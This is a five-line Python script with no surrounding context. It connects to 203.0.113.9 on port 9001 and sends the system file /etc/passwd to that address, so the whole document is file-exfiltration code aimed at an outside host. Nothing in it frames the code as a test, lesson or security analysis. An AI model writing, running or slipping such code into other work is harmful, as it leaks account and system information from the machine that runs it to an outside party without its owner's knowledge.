import socket
s = socket.socket()
s.connect(("203.0.113.9", 9001))
with open("/etc/passwd", "rb") as f:
    s.sendfile(f)
